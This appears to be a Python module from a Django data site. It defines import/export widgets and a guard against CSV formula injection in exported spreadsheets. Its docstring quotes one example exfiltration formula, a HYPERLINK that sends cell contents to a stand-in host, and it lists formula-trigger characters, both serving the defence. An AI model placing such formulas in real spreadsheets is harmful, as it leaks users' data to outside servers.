"""The cells of the CSV and XLSX files the site writes (the open data and every admin export) hold no formula.

Excel, LibreOffice and Google Sheets run a cell that starts with "=", "+", "-" or "@" as a formula, and a tab or a
carriage return can hide one, so a record named =HYPERLINK("http://evil.example/?x="&A1,"click") could send the
rest of a researcher's sheet to another server, or run a command. Text that starts so gets a leading apostrophe, as
OWASP advises (https://owasp.org/www-community/attacks/CSV_Injection): the spreadsheet shows it as text.

Numbers stay numbers: a longitude of -12.5 or a year is written as a number, never as text with an apostrophe. Only
text is changed; the admin export knows a number column by its widget (see CuratedResource.export_field).

The widgets below read the cells of an imported file: related records by slug or by name in any language, yes and
no in three languages, choices, whole numbers, coordinates and dates, each with a message that says what is wrong.
"""

from datetime import datetime
from urllib.parse import urlsplit

from django.core.exceptions import ValidationError
from django.core.validators import URLValidator
from django.utils.translation import gettext as _
from import_export import widgets

from .forms import COORDINATE_STEP
from .languages import in_every_language
from .models import EventSource, InitiativeLink, casefold_words

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value):
    """The value as a spreadsheet cell may hold it: text that a spreadsheet would run as a formula gets a "'"."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return f"'{value}"
    return value


def from_safe_cell(value):
    """The text safe_cell() was given: a file the admin exported imports back unchanged."""
    if isinstance(value, str) and value.startswith("'") and value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


LIST_SEPARATOR = ";"
YES = {"1", "true", "yes", "y", "да", "иә", "ия"}
NO = {"0", "false", "no", "n", "нет", "жоқ"}


class RecordFinder:
    """Finds a record by its slug or by its name in any language, whatever the case or the script.

    SQLite folds the case of ASCII letters only, so the names are folded here, once per import.
    """

    def __init__(self, model):
        self.model = model
        self.by_slug = None
        self.by_name = None

    def load(self):
        self.by_slug, self.by_name = {}, {}
        for record in self.model.objects.all():
            self.by_slug[casefold_words(record.slug)] = record
            for field in in_every_language("name"):
                name = casefold_words(getattr(record, field))
                if name:
                    self.by_name.setdefault(name, {})[record.pk] = record

    def find(self, value):
        if self.by_slug is None:
            self.load()
        key = casefold_words(str(value))
        if key in self.by_slug:
            return self.by_slug[key]
        matches = list(self.by_name.get(key, {}).values())
        if len(matches) == 1:
            return matches[0]
        if matches:
            raise ValueError(
                _("“%(value)s” is the name of several %(records)s (%(slugs)s): give the slug instead.")
                % {
                    "value": value,
                    "records": self.model._meta.verbose_name_plural,
                    "slugs": ", ".join(sorted(record.slug for record in matches)),
                }
            )
        raise ValueError(
            _("No %(record)s has the slug or the name “%(value)s”.")
            % {"record": self.model._meta.verbose_name, "value": value}
        )


class RecordWidget(widgets.ForeignKeyWidget):
    """One related record: exported as its slug, imported from its slug or its name in any language."""

    def __init__(self, model, **kwargs):
        super().__init__(model, field="slug", **kwargs)
        self.finder = RecordFinder(model)

    def clean(self, value, row=None, **kwargs):
        if value is None or not str(value).strip():
            return None
        return self.finder.find(value)


class RecordsWidget(widgets.ManyToManyWidget):
    """Related records separated by ";": exported as slugs, imported from slugs or names in any language."""

    def __init__(self, model, **kwargs):
        super().__init__(model, separator=LIST_SEPARATOR, field="slug", **kwargs)
        self.finder = RecordFinder(model)

    def clean(self, value, row=None, **kwargs):
        found, errors = [], []
        for item in str(value or "").split(self.separator):
            if not item.strip():
                continue
            try:
                found.append(self.finder.find(item.strip()))
            except ValueError as error:
                errors.append(str(error))
        if errors:
            if "," in str(value):
                errors.append(_("Separate several with “%(separator)s”.") % {"separator": self.separator})
            raise ValueError(" ".join(errors))
        return list(dict.fromkeys(found))


class YesNoWidget(widgets.BooleanWidget):
    """1/0, true/false, yes/no in English, Russian or Kazakh; anything else is an error, never a silent "no"."""

    def clean(self, value, row=None, **kwargs):
        if isinstance(value, bool):
            return value
        text = "" if value is None else str(value).strip().casefold()
        if text in {"1.0", "0.0"}:  # a number cell in a spreadsheet
            text = text[0]
        if not text:
            return None
        if text in YES:
            return True
        if text in NO:
            return False
        raise ValueError(_("“%(value)s” is not yes or no: write 1 or 0, true or false, yes or no.") % {"value": value})


class ChoiceWidget(widgets.CharWidget):
    """One of the model's choices, as stored (e.g. "online_campaign"), whatever the case."""

    def __init__(self, choices, **kwargs):
        super().__init__(**kwargs)
        self.values = [value for value, _label in choices.choices]

    def clean(self, value, row=None, **kwargs):
        text = "" if value is None else str(value).strip()
        if not text:
            return None
        for choice in self.values:
            if text.casefold() == choice.casefold():
                return choice
        raise ValueError(
            _("“%(value)s” is not one of: %(choices)s.") % {"value": value, "choices": ", ".join(self.values)}
        )


class WholeNumberWidget(widgets.IntegerWidget):
    """A whole number; spaces between the thousands (1 000 000) are fine."""

    def clean(self, value, row=None, **kwargs):
        if isinstance(value, str):
            value = "".join(value.split())
        try:
            number = widgets.DecimalWidget().clean(value, row, **kwargs)
        except (ArithmeticError, ValueError):
            number = None
        else:
            if number is None:
                return None
            if number.is_finite() and number == number.to_integral_value():
                return int(number)
        raise ValueError(_("“%(value)s” is not a whole number.") % {"value": value})


class CoordinateWidget(widgets.DecimalWidget):
    """Decimal degrees, rounded to six places (about 10 cm) as the admin's map does; the range is the model's."""

    def clean(self, value, row=None, **kwargs):
        try:
            number = super().clean(value, row, **kwargs)
        except (ArithmeticError, ValueError):
            number = None
        else:
            if number is None:
                return None
            if number.is_finite():
                try:
                    return number.quantize(COORDINATE_STEP)
                except ArithmeticError:
                    return number  # too large to round: the range check reports it
        raise ValueError(_("“%(value)s” is not a number of degrees such as 43.238949.") % {"value": value})


class DayWidget(widgets.DateWidget):
    """A date as 2024-05-31 or 31.05.2024, or a date cell of a spreadsheet."""

    def __init__(self, **kwargs):
        super().__init__(**kwargs)
        self.formats = ("%Y-%m-%d", "%d.%m.%Y")

    def clean(self, value, row=None, **kwargs):
        if isinstance(value, datetime):
            return value.date()
        if isinstance(value, str):
            value = value.strip()
        try:
            return super().clean(value, row, **kwargs)
        except (TypeError, ValueError):
            raise ValueError(
                _("“%(value)s” is not a date: write it as 2024-05-31 or 31.05.2024.") % {"value": value}
            ) from None


SOURCE_PARTS_SEPARATOR = "|"


class SourcesWidget(widgets.Widget):
    """An event's or an initiative's sources in one cell, separated by ";". Each is its title, then, after "|", its
    URL, its publisher and its date, as far as they are known: "Rally in Almaty | https://vlast.kz/rally | Vlast.kz |
    2019-06-12". Read as (title, url, publisher, date) tuples, every error of the cell reported at once."""

    def clean(self, value, row=None, **kwargs):
        found, errors = [], []
        lengths = {name: EventSource._meta.get_field(name).max_length for name in ("title", "url", "publisher")}
        for item in str(value or "").split(LIST_SEPARATOR):
            if not item.strip():
                continue
            parts = [part.strip() for part in item.split(SOURCE_PARTS_SEPARATOR)]
            if len(parts) > 4:
                errors.append(
                    _("“%(source)s” has more than four parts: title | URL | publisher | date.") % {"source": item}
                )
                continue
            title, url, publisher, day = parts + [""] * (4 - len(parts))
            if not title:
                errors.append(_("“%(source)s” has no title: write it before the URL.") % {"source": item})
                continue
            try:
                if url:
                    URLValidator()(url)
            except ValidationError:
                errors.append(_("“%(url)s” is not a web address starting with https://.") % {"url": url})
            for name, text in [("title", title), ("url", url), ("publisher", publisher)]:
                if len(text) > lengths[name]:
                    errors.append(
                        _("“%(text)s” is longer than %(limit)s characters.") % {"text": text, "limit": lengths[name]}
                    )
            try:
                published_on = DayWidget().clean(day) if day else None
            except ValueError as error:
                errors.append(str(error))
                continue
            found.append((title, url, publisher, published_on))
        if errors:
            raise ValueError(" ".join(errors))
        return found

    def render(self, value, obj=None, **kwargs):
        items = []
        for title, url, publisher, published_on in value or []:
            parts = [title, url, publisher, published_on.isoformat() if published_on else ""]
            while parts[-1] == "":
                parts.pop()
            items.append(f" {SOURCE_PARTS_SEPARATOR} ".join(parts))
        return f"{LIST_SEPARATOR} ".join(items)


# The kind of an initiative's link, guessed from its host (a subdomain such as m.facebook.com counts too).
LINK_KINDS_BY_HOST = {
    "instagram.com": InitiativeLink.Kind.INSTAGRAM,
    "t.me": InitiativeLink.Kind.TELEGRAM,
    "telegram.me": InitiativeLink.Kind.TELEGRAM,
    "telegram.org": InitiativeLink.Kind.TELEGRAM,
    "facebook.com": InitiativeLink.Kind.FACEBOOK,
    "fb.com": InitiativeLink.Kind.FACEBOOK,
    "youtube.com": InitiativeLink.Kind.YOUTUBE,
    "youtu.be": InitiativeLink.Kind.YOUTUBE,
    "tiktok.com": InitiativeLink.Kind.TIKTOK,
    "vk.com": InitiativeLink.Kind.VK,
    "x.com": InitiativeLink.Kind.X,
    "twitter.com": InitiativeLink.Kind.X,
}


def link_kind(url):
    """The kind of link a web address is, from its host: instagram.com is Instagram, t.me Telegram, any other host a
    website."""
    host = (urlsplit(url).hostname or "").removeprefix("www.")
    for known, kind in LINK_KINDS_BY_HOST.items():
        if host == known or host.endswith(f".{known}"):
            return kind
    return InitiativeLink.Kind.WEBSITE


class LinksWidget(widgets.Widget):
    """An initiative's links in one cell, separated by ";": each a web address, its kind guessed from the host
    (link_kind), or "kind | URL" for a kind the host does not tell ("website | https://instagram.com/..."). Read as
    (kind, url) tuples, every error of the cell reported at once."""

    def clean(self, value, row=None, **kwargs):
        found, errors = {}, []
        kinds = [kind for kind, _label in InitiativeLink.Kind.choices]
        limit = InitiativeLink._meta.get_field("url").max_length
        for item in str(value or "").split(LIST_SEPARATOR):
            if not item.strip():
                continue
            parts = [part.strip() for part in item.split(SOURCE_PARTS_SEPARATOR)]
            if len(parts) > 2:
                errors.append(_("“%(link)s” has more than two parts: kind | URL.") % {"link": item.strip()})
                continue
            url = parts[-1]
            kind = parts[0].casefold() if len(parts) == 2 else link_kind(url)
            if kind not in kinds:
                errors.append(
                    _("“%(value)s” is not one of: %(choices)s.") % {"value": parts[0], "choices": ", ".join(kinds)}
                )
                continue
            try:
                URLValidator()(url)
            except ValidationError:
                errors.append(_("“%(url)s” is not a web address starting with https://.") % {"url": url})
                continue
            if len(url) > limit:
                errors.append(_("“%(text)s” is longer than %(limit)s characters.") % {"text": url, "limit": limit})
                continue
            found.setdefault(url, kind)  # a link given twice is kept once
        if errors:
            raise ValueError(" ".join(errors))
        return [(kind, url) for url, kind in found.items()]

    def render(self, value, obj=None, **kwargs):
        items = [
            url if kind == link_kind(url) else f"{kind} {SOURCE_PARTS_SEPARATOR} {url}" for kind, url in value or []
        ]
        return f"{LIST_SEPARATOR} ".join(items)
